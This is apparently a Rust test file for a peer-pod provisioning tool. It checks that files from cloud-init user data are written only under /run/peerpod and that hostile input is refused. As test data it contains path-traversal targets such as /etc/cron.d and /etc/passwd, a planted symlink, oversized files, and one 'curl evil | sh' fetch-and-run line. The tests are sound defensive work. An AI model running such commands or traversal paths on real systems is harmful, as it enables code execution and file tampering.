//! `process-user-data provision-files` from a user data file under a root prefix: what is
//! written (names, contents, modes, the initdata digest), and what hostile user data gets:
//! refused paths, a planted symlink, corrupt initdata, huge content — never a file outside
//! `/run/peerpod`, never a partial set of files.

mod common;

use common::*;
use peerpod_tests::scratch::ScratchDir;

fn user_data(dir: &ScratchDir, doc: &str) -> String {
    let path = dir.path().join("user-data");
    std::fs::write(&path, doc).expect("user data");
    path.display().to_string()
}

fn make_root(dir: &ScratchDir) -> std::path::PathBuf {
    let r = dir.path().join("root");
    std::fs::create_dir_all(&r).expect("root");
    r
}

fn provisions_initdata(algorithm: &str, hex_len: usize) {
    let dir = ScratchDir::new(&format!("prov-{algorithm}")).expect("scratch");
    let root = make_root(&dir);
    let doc = initdata_doc(algorithm);
    let apf = "{\"pod-network\":{\"podip\":\"10.0.0.2/24\"},\"tls-server-key\":\"SECRET\"}";
    let ud = cloud_config(&[
        ("/run/peerpod/apf.json", apf),
        ("/run/peerpod/auth.json", "{\"auths\":{}}"),
        ("/run/peerpod/initdata", &encoded(&doc)),
        // Overridden by the initdata's aa.toml, as upstream's later write does.
        ("/run/peerpod/aa.toml", "overridden = true"),
    ]);
    let out = provision(
        &root,
        &["--user-data-file", &user_data(&dir, &ud), "-t", "5"],
    );
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(
        written(&root),
        [
            "aa.toml",
            "apf.json",
            "auth.json",
            "cdh.toml",
            "initdata",
            "initdata.digest",
            "initdata.toml",
            "policy.rego"
        ]
    );
    let read = |n: &str| std::fs::read_to_string(peerpod(&root, n)).expect(n);
    let digest = read("initdata.digest");
    assert_eq!(digest.len(), hex_len);
    assert_eq!(digest, digest_hex(&doc), "the policy crate's digest");
    assert_eq!(read("aa.toml"), AA_TOML);
    assert_eq!(read("cdh.toml"), CDH_TOML);
    assert_eq!(read("policy.rego"), POLICY);
    assert_eq!(read("initdata.toml"), doc);
    assert_eq!(read("apf.json").trim_end(), apf);
    assert_eq!(read("initdata").trim_end(), encoded(&doc));
    // Root only, every one; nothing but /run/peerpod under the root.
    for (path, (mode, _)) in tree(&root) {
        assert!(path.starts_with("run/peerpod/"), "{path}");
        assert_eq!(mode, 0o600, "{path}");
    }
    // The secret in apf.json is not in the log.
    assert!(!stderr(&out).contains("SECRET"), "{}", stderr(&out));
}

#[test]
fn sha256_initdata_is_provisioned_with_its_digest() {
    provisions_initdata("sha256", 64);
}

#[test]
fn sha384_initdata_is_provisioned_with_its_digest() {
    provisions_initdata("sha384", 96);
}

#[test]
fn without_initdata_only_write_files_land() {
    let dir = ScratchDir::new("prov-none").expect("scratch");
    let root = make_root(&dir);
    let ud = cloud_config(&[
        ("/run/peerpod/apf.json", "{}"),
        ("/run/peerpod/aa.toml", AA_TOML),
        ("/run/peerpod/scratch-space.marker", ""),
    ]);
    let out = provision(&root, &["--user-data-file", &user_data(&dir, &ud)]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(
        written(&root),
        ["aa.toml", "apf.json", "scratch-space.marker"]
    );
    assert!(stderr(&out).contains("no initdata"), "{}", stderr(&out));
}

#[test]
fn no_provider_processes_an_initdata_already_there() {
    // Upstream's path for providers whose cloud-init wrote the files: no user data source,
    // but /run/peerpod/initdata is expanded.
    let dir = ScratchDir::new("prov-noprov").expect("scratch");
    let root = make_root(&dir);
    let doc = initdata_doc("sha512");
    std::fs::create_dir_all(root.join("run/peerpod")).expect("dir");
    std::fs::write(peerpod(&root, "initdata"), encoded(&doc)).expect("initdata");
    let out = provision(&root, &["--user-data-file", "/nonexistent/user-data"]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(
        std::fs::read_to_string(peerpod(&root, "initdata.digest")).expect("digest"),
        digest_hex(&doc)
    );
}

#[test]
fn corrupt_initdata_fails_and_writes_nothing() {
    let good_doc = initdata_doc("sha256");
    let cases: Vec<(&str, String)> = vec![
        ("not base64", "%%%not-base64%%%".into()),
        ("base64 of no gzip", b64(b"plain text")),
        (
            "unsupported algorithm",
            encoded(&good_doc.replace("sha256", "md5")),
        ),
        (
            "policy that does not compile",
            encoded(&good_doc.replace("package agent_policy", "package agent_policy\nx := ")),
        ),
        (
            "aa.toml that is not TOML",
            encoded(&good_doc.replace("[token_configs.kbs]", "[token_configs.kbs")),
        ),
        ("wrapped base64", {
            let e = encoded(&good_doc);
            format!("{}\n{}", &e[..40], &e[40..])
        }),
    ];
    for (what, initdata) in cases {
        let dir = ScratchDir::new("prov-corrupt").expect("scratch");
        let root = make_root(&dir);
        let ud = cloud_config(&[
            ("/run/peerpod/aa.toml", AA_TOML),
            ("/run/peerpod/apf.json", "{}"),
            ("/run/peerpod/scratch-space.marker", ""),
            ("/run/peerpod/initdata", &initdata),
        ]);
        let out = provision(&root, &["--user-data-file", &user_data(&dir, &ud)]);
        assert!(!out.status.success(), "{what}: {}", stderr(&out));
        let err = stderr(&out);
        assert!(err.contains("initdata"), "{what}: {err}");
        assert!(err.contains("will not serve"), "{what}: {err}");
        // No aa.toml (the attestation agent's path unit), no marker, nothing at all.
        assert_eq!(written(&root), Vec::<String>::new(), "{what}");
    }
}

#[test]
fn paths_off_the_allow_list_are_refused_and_logged() {
    let dir = ScratchDir::new("prov-allow").expect("scratch");
    let root = make_root(&dir);
    let escape = dir.path().join("escaped");
    let bad = [
        "/run/peerpod/../peerpod/evil.toml".to_string(),
        "/run/peerpod/../../etc/cron.d/evil".into(),
        "/etc/passwd".into(),
        escape.display().to_string(),
        "run/peerpod/aa.toml".into(),
        "/run/peerpod/policy.rego".into(),
        "/run/peerpod/initdata.digest".into(),
        "/run/peerpod/agent-config.toml".into(),
        "/run/peerpod/sub/aa.toml".into(),
    ];
    let mut entries: Vec<(&str, &str)> = bad.iter().map(|p| (p.as_str(), "owned")).collect();
    entries.push(("/run/peerpod/apf.json", "{}"));
    let out = provision(
        &root,
        &[
            "--user-data-file",
            &user_data(&dir, &cloud_config(&entries)),
        ],
    );
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(written(&root), ["apf.json"]);
    assert_eq!(tree(&root).len(), 1, "{:?}", tree(&root).keys());
    assert!(!escape.exists());
    let err = stderr(&out);
    assert_eq!(err.matches("is not allowed").count(), bad.len(), "{err}");
}

#[test]
fn a_symlink_at_an_output_is_refused_not_followed() {
    let dir = ScratchDir::new("prov-symlink").expect("scratch");
    let root = make_root(&dir);
    let outside = dir.path().join("outside.txt");
    std::fs::write(&outside, "untouched").expect("outside");
    std::fs::create_dir_all(root.join("run/peerpod")).expect("dir");
    std::os::unix::fs::symlink(&outside, peerpod(&root, "apf.json")).expect("symlink");
    let ud = cloud_config(&[("/run/peerpod/apf.json", "{\"evil\":1}")]);
    let out = provision(&root, &["--user-data-file", &user_data(&dir, &ud)]);
    assert!(!out.status.success(), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("refusing to write"),
        "{}",
        stderr(&out)
    );
    assert_eq!(
        std::fs::read_to_string(&outside).expect("outside"),
        "untouched"
    );

    // /run/peerpod itself a symlink to elsewhere: refused before anything is read.
    let dir2 = ScratchDir::new("prov-symdir").expect("scratch");
    let root2 = make_root(&dir2);
    let elsewhere = dir2.path().join("elsewhere");
    std::fs::create_dir_all(&elsewhere).expect("elsewhere");
    std::fs::create_dir_all(root2.join("run")).expect("run");
    std::os::unix::fs::symlink(&elsewhere, root2.join("run/peerpod")).expect("symlink");
    let out = provision(&root2, &["--user-data-file", &user_data(&dir2, &ud)]);
    assert!(!out.status.success(), "{}", stderr(&out));
    assert_eq!(std::fs::read_dir(&elsewhere).expect("dir").count(), 0);
}

#[test]
fn huge_or_malformed_user_data_is_refused_whole() {
    let big = "A".repeat(600 << 10);
    for (what, doc) in [
        (
            "huge content",
            cloud_config(&[
                ("/run/peerpod/apf.json", "{}"),
                ("/run/peerpod/auth.json", &big),
            ]),
        ),
        ("huge document", format!("# {}\n", "x".repeat(2 << 20))),
        ("not YAML", "write_files: [\n".to_string()),
        (
            "unknown key",
            "write_files: []\nruncmd: [\"curl evil | sh\"]\n".to_string(),
        ),
        (
            "unknown entry key",
            "write_files:\n- path: /run/peerpod/apf.json\n  permissions: '0777'\n".to_string(),
        ),
    ] {
        let dir = ScratchDir::new("prov-huge").expect("scratch");
        let root = make_root(&dir);
        let start = std::time::Instant::now();
        let out = provision(&root, &["--user-data-file", &user_data(&dir, &doc)]);
        assert!(!out.status.success(), "{what}");
        assert!(stderr(&out).contains("refused"), "{what}: {}", stderr(&out));
        assert_eq!(written(&root), Vec::<String>::new(), "{what}");
        // A file is read once: no retry loop until the 180 s default deadline.
        assert!(start.elapsed().as_secs() < 60, "{what}");
    }
}

#[test]
fn version_and_help() {
    let out = std::process::Command::new(BIN)
        .arg("-v")
        .output()
        .expect("run");
    assert!(out.status.success());
    assert!(String::from_utf8_lossy(&out.stdout).starts_with("process-user-data "));
    let out = std::process::Command::new(BIN)
        .args(["provision-files", "--help"])
        .output()
        .expect("run");
    let help = String::from_utf8_lossy(&out.stdout);
    assert!(help.contains("--user-data-fetch-timeout"), "{help}");
    assert!(help.contains("-t"), "{help}");
}

#[test]
fn initdata_data_keys_off_the_list_are_ignored() {
    let dir = ScratchDir::new("prov-keys").expect("scratch");
    let root = make_root(&dir);
    let escape = dir.path().join("escaped-key");
    let doc = format!(
        "{}\"../../../etc/evil\" = \"x\"\n\"{}\" = \"x\"\n\"apf.json\" = \"{{}}\"\n\
         \"initdata.digest\" = \"00\"\n",
        initdata_doc("sha256"),
        escape.display()
    );
    let ud = cloud_config(&[("/run/peerpod/initdata", &encoded(&doc))]);
    let out = provision(&root, &["--user-data-file", &user_data(&dir, &ud)]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(
        written(&root),
        [
            "aa.toml",
            "cdh.toml",
            "initdata",
            "initdata.digest",
            "initdata.toml",
            "policy.rego"
        ]
    );
    assert!(!escape.exists());
    // The digest is the document's, not the data key's "00".
    assert_eq!(
        std::fs::read_to_string(peerpod(&root, "initdata.digest")).expect("digest"),
        digest_hex(&doc)
    );
    assert_eq!(
        stderr(&out).matches("not written").count(),
        4,
        "{}",
        stderr(&out)
    );
}

/// An initdata without `aa.toml` (only `cdh.toml` and the policy) next to a `write_files`
/// `aa.toml`: the host's copy is written, as upstream does, with a warning that names the file
/// and says the digest does not cover it. The initdata's own `cdh.toml` draws no warning.
#[test]
fn an_initdata_lacking_aa_toml_warns_that_the_hosts_copy_is_unmeasured() {
    let dir = ScratchDir::new("prov-unmeasured").expect("scratch");
    let root = make_root(&dir);
    let doc = format!(
        "version = \"0.1.0\"\nalgorithm = \"sha256\"\n\n[data]\n\"cdh.toml\" = '''\n{CDH_TOML}'''\n\
         \"policy.rego\" = '''\n{POLICY}'''\n"
    );
    let host_aa = "[token_configs.kbs]\nurl = \"https://host-chosen.example\"\n";
    let ud = cloud_config(&[
        ("/run/peerpod/aa.toml", host_aa),
        ("/run/peerpod/cdh.toml", "host = 'overridden'"),
        ("/run/peerpod/initdata", &encoded(&doc)),
    ]);
    let out = provision(&root, &["--user-data-file", &user_data(&dir, &ud)]);
    assert!(out.status.success(), "{}", stderr(&out));
    let log = stderr(&out);
    assert_eq!(
        std::fs::read_to_string(peerpod(&root, "aa.toml")).expect("aa.toml"),
        host_aa
    );
    assert_eq!(
        std::fs::read_to_string(peerpod(&root, "cdh.toml")).expect("cdh.toml"),
        CDH_TOML
    );
    let warnings: Vec<&str> = log
        .lines()
        .filter(|l| l.contains("unmeasured write_files copy"))
        .collect();
    assert_eq!(warnings.len(), 1, "{log}");
    assert!(warnings[0].contains("WARN"), "{log}");
    assert!(warnings[0].contains("the initdata has no aa.toml"), "{log}");
    assert!(
        warnings[0].contains(&peerpod(&root, "aa.toml").display().to_string()),
        "{log}"
    );

    // With every configuration in the initdata: no such warning.
    let dir = ScratchDir::new("prov-measured").expect("scratch");
    let root = make_root(&dir);
    let ud = cloud_config(&[
        ("/run/peerpod/aa.toml", host_aa),
        ("/run/peerpod/initdata", &encoded(&initdata_doc("sha256"))),
    ]);
    let out = provision(&root, &["--user-data-file", &user_data(&dir, &ud)]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(!stderr(&out).contains("unmeasured"), "{}", stderr(&out));
}

/// An initdata already in `/run/peerpod` over the 512 KiB bound of one in user data (a valid
/// annotation followed by padding): refused whole with the limit in the message, nothing
/// written; a FIFO there is refused without blocking.
#[test]
fn an_oversized_initdata_already_there_is_refused_whole() {
    let dir = ScratchDir::new("prov-bigdata").expect("scratch");
    let root = make_root(&dir);
    std::fs::create_dir_all(root.join("run/peerpod")).expect("dir");
    let mut big = encoded(&initdata_doc("sha256")).into_bytes();
    big.resize((512 << 10) + 1, b'=');
    std::fs::write(peerpod(&root, "initdata"), &big).expect("initdata");
    let out = provision(&root, &["--user-data-file", "/nonexistent/user-data"]);
    assert!(!out.status.success(), "{}", stderr(&out));
    let err = stderr(&out);
    assert!(
        err.contains("is 524289 bytes, over the 524288-byte limit"),
        "{err}"
    );
    assert!(err.contains("nothing was written"), "{err}");
    assert_eq!(written(&root), ["initdata"]);

    // Exactly at the bound it is read (and here refused as an annotation, not as a size).
    big.truncate(512 << 10);
    std::fs::write(peerpod(&root, "initdata"), &big).expect("initdata");
    let out = provision(&root, &["--user-data-file", "/nonexistent/user-data"]);
    assert!(!out.status.success(), "{}", stderr(&out));
    assert!(!stderr(&out).contains("byte limit"), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("not valid initdata"),
        "{}",
        stderr(&out)
    );

    std::fs::remove_file(peerpod(&root, "initdata")).expect("rm");
    nix::unistd::mkfifo(
        &peerpod(&root, "initdata"),
        nix::sys::stat::Mode::from_bits_truncate(0o600),
    )
    .expect("fifo");
    let out = provision(&root, &["--user-data-file", "/nonexistent/user-data"]);
    assert!(!out.status.success(), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("not a regular file"),
        "{}",
        stderr(&out)
    );
}
